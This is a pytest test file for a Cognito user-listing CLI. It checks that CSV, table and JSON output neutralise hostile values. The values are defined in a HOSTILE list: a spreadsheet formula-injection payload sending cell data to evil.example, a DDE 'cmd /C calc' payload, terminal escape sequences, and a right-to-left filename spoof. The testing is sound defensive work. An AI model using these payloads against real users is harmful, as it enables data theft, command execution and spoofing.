"""Hostile attribute values and error messages cannot act on the reader of our output.

End to end against a moto server (the console script, stdout and stderr as pipes), and
property-based on the writers with generated values.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cognito_groups import User
from cognito_groups._cli._safe_text import display_width, visible
from cognito_groups._cli._writers import WRITERS
from cognito_groups._client._config import new_cognito_client
from cognito_groups.testing import make_user

from .fault_server import GROUP as FAULT_GROUP
from .fault_server import POOL as FAULT_POOL
from .fault_server import Fault, FaultServer

if TYPE_CHECKING:
    from collections.abc import Sequence

    from .conftest import ServedPool

SCRIPT = Path(sys.executable).with_name("cognito-groups")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "-2+3",
    "\tleading tab",
    "\rleading carriage return",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;pwned title\x07",
    "bell\x07",
    "x\nmallory  CONFIRMED  true  2024-01-01T00:00:00Z",
    "8-bit CSI \x9b31m",
    "delete\x7f",
    "山田太郎",
    "e\u0301le\u0300ve",
    "\u202egnp.exe",
    "line\u2028separator",
]
TERMINAL_ACTIVE = [chr(c) for c in (*range(0x20), *range(0x7F, 0xA0))] + [
    "\u2028",
    "\u2029",
    "\u202e",
]


@pytest.fixture(scope="module")
def hostile_group(served_pool: ServedPool) -> tuple[str, str, dict[str, str]]:
    """A group "hostile" in a pool of its own on the moto server: one user per hostile `name`."""
    client = new_cognito_client(
        region_name="us-east-1",
        endpoint_url=served_pool.url,
        aws_access_key_id="testing",
        aws_secret_access_key="testing",
    )
    pool = client.create_user_pool(PoolName="hostile")["UserPool"]["Id"]  # pyright: ignore[reportTypedDictNotRequiredAccess]
    client.create_group(UserPoolId=pool, GroupName="hostile")
    names: dict[str, str] = {}
    for index, value in enumerate(HOSTILE):
        username = f"hostile-{index:02d}"
        client.admin_create_user(
            UserPoolId=pool,
            Username=username,
            UserAttributes=[{"Name": "name", "Value": value}],
            MessageAction="SUPPRESS",
        )
        client.admin_add_user_to_group(UserPoolId=pool, Username=username, GroupName="hostile")
        names[username] = value
    return served_pool.url, pool, names


def run_cli(url: str, pool: str, *extra: str) -> subprocess.CompletedProcess[str]:
    """The console script; its output decoded as written (no newline translation)."""
    args = [str(SCRIPT), "users", pool, "hostile", "--region", "us-east-1"]
    result = subprocess.run(  # noqa: S603 (our own script)
        [*args, "--endpoint-url", url, *extra],
        capture_output=True,
        env={**os.environ, "AWS_MAX_ATTEMPTS": "1"},
        timeout=60,
        check=False,
    )
    return subprocess.CompletedProcess(
        result.args, result.returncode, result.stdout.decode(), result.stderr.decode()
    )


def test_csv_neutralises_formulas(hostile_group: tuple[str, str, dict[str, str]]) -> None:
    """CSV: one row per user, no cell starts like a formula; the value follows a quote."""
    url, pool, names = hostile_group
    result = run_cli(url, pool, "--format", "csv", "--attribute", "name")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) == len(names)
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())
        expected = names[row["username"]]
        assert row["name"] in (expected, "'" + expected)


def test_csv_raw_writes_values_exactly(hostile_group: tuple[str, str, dict[str, str]]) -> None:
    """--csv-raw: every value exactly as the service sent it."""
    url, pool, names = hostile_group
    result = run_cli(url, pool, "--format", "csv", "--attribute", "name", "--csv-raw")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert {row["username"]: row["name"] for row in rows} == names


def test_table_is_one_line_per_user(hostile_group: tuple[str, str, dict[str, str]]) -> None:
    """Table: the header plus exactly one line per user, no ESC, BEL or other control byte."""
    url, pool, names = hostile_group
    result = run_cli(url, pool, "--format", "table", "--attribute", "name")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert len(lines) == len(names) + 1
    assert not any(char in result.stdout.replace("\n", "") for char in TERMINAL_ACTIVE)
    assert sorted(line.split()[0] for line in lines[1:]) == sorted(names)
    assert "\\x1b[31mred\\x1b[0m" in result.stdout  # shown, not acted on


def test_jsonl_round_trips_every_value(hostile_group: tuple[str, str, dict[str, str]]) -> None:
    """jsonl: every value exactly; the text itself holds no raw control character."""
    url, pool, names = hostile_group
    result = run_cli(url, pool, "--format", "jsonl")
    assert result.returncode == 0, result.stderr
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert {r["username"]: r["attributes"]["name"] for r in records} == names
    assert not any(char in result.stdout.replace("\n", "") for char in TERMINAL_ACTIVE)


def test_error_message_from_the_server_is_escaped() -> None:
    """An error message carrying escape sequences leaves no ESC on stderr, in two lines."""
    fault = Fault("error", "InternalErrorException", 500, "\x1b[2J\x1b[1;1HAll good, 0 users")
    with FaultServer(users=10, script={1: fault}) as server:
        args = [str(SCRIPT), "users", FAULT_POOL, FAULT_GROUP, "--region", "us-east-1"]
        result = subprocess.run(  # noqa: S603 (our own script)
            [*args, "--endpoint-url", server.url],
            capture_output=True,
            text=True,
            env={**os.environ, "AWS_MAX_ATTEMPTS": "1"},
            timeout=60,
            check=False,
        )
    assert result.returncode == 6
    assert "\x1b" not in result.stderr
    assert "\\x1b[2J" in result.stderr
    assert len(result.stderr.splitlines()) <= 2


# --- the writers, with generated values --------------------------------------------------

VALUE = st.text(
    alphabet=st.sampled_from(
        [
            *TERMINAL_ACTIVE,
            *FORMULA_STARTS,
            *("a", "Z", "7", " ", '"', ",", "\\", "山", "\u0301"),
            *("\ud800", "\udbff", "\udc00", "\udfff", "\U0001f600"),  # lone surrogates, a pair
        ]
    ),
    max_size=12,
).filter(
    # A high surrogate before a low one is a pair, which the service's JSON (and any JSON
    # parser) gives as the one character it stands for: it never arrives as two.
    lambda value: re.search("[\ud800-\udbff][\udc00-\udfff]", value) is None
)


def users_with(values: Sequence[str]) -> list[User]:
    return [
        User._from_wire(make_user(f"u{index}", attributes={"name": value}))
        for index, value in enumerate(values)
    ]


def render(format_name: str, users: Sequence[User], *, terminal: bool = False) -> str:
    out = io.StringIO()
    writer = WRITERS[format_name](out, ["name"], terminal=terminal)
    writer.write_page(users)
    writer.finish()
    text = out.getvalue()
    text.encode("utf-8")  # what any format writes can be written to a file or a terminal
    return text


@settings(max_examples=200, deadline=None)
@given(st.lists(VALUE, min_size=1, max_size=5))
def test_generated_values_in_every_format(values: list[str]) -> None:
    """Generated hostile values: CSV, table, json and jsonl each keep their promise.

    Each is valid UTF-8, lone surrogates included. CSV parses back one row a user with no
    formula cell (a lone surrogate as U+FFFD); the table is one line a user with no control
    character; json and jsonl give exactly the values.
    """
    users = users_with(values)
    rows = list(csv.reader(io.StringIO(render("csv", users), newline="")))
    assert len(rows) == len(users) + 1
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    assert [row[-1] for row in rows[1:]] == [
        re.sub(
            "[\ud800-\udfff]", "\ufffd", "'" + value if value.startswith(FORMULA_STARTS) else value
        )
        for value in values
    ]
    table = render("table", users)
    assert len(table.splitlines()) == len(users) + 1
    assert table.count("\n") == len(users) + 1
    assert not any(char in table.replace("\n", "") for char in TERMINAL_ACTIVE)
    lines = render("jsonl", users).splitlines()
    assert [json.loads(line)["attributes"]["name"] for line in lines] == values
    document = json.loads(render("json", users))
    assert [record["attributes"]["name"] for record in document] == values


def test_csv_on_a_terminal_escapes_control_characters() -> None:
    """CSV written to a terminal shows control characters escaped, like the table."""
    text = render("csv", users_with(["\x1b[31mred", "a\nb"]), terminal=True)
    assert "\x1b" not in text
    assert text.count("\n") == 3


def test_header_cells_are_neutralised() -> None:
    """Attribute names come from the pool schema: header cells are neutralised too."""
    out = io.StringIO()
    writer = WRITERS["csv"](out, ["=evil"])
    writer.write_page([User._from_wire(make_user("ana", attributes={"=evil": "1"}))])
    writer.finish()
    header = next(csv.reader(io.StringIO(out.getvalue())))
    assert header[-1] == "'=evil"


def test_wide_and_combining_characters_keep_columns_aligned() -> None:
    """The column after a wide or combining value starts at the same display column."""
    users = [
        User._from_wire(make_user(name, user_status="CONFIRMED"))
        for name in ("山田太郎", "ab", "e\u0301e\u0301")
    ]
    lines = render("table", users).splitlines()[1:]
    starts = {display_width(line[: line.index("CONFIRMED")]) for line in lines}
    assert len(starts) == 1


def test_visible_names_each_control_character() -> None:
    """Escapes are readable: newline, tab, CR by name, others by code point."""
    assert visible("a\nb\tc\rd\x1be\x9bf\u202eg") == "a\\nb\\tc\\rd\\x1be\\x9bf\\u202eg"


def test_visible_shows_invisible_characters_but_keeps_joiners() -> None:
    """Two values that look the same on a terminal are told apart (``admin`` and ``ad\u200bmin``).

    The zero-width joiner and non-joiner are kept: emoji sequences and scripts need them.
    """
    for char in ("\u200b", "\u2060", "\ufeff", "\xad", "\u180e"):
        assert visible(f"ad{char}min") != "admin"
        assert "\\" in visible(f"ad{char}min")
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
    assert visible(family) == family
    assert visible("\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645") == (
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"
    )
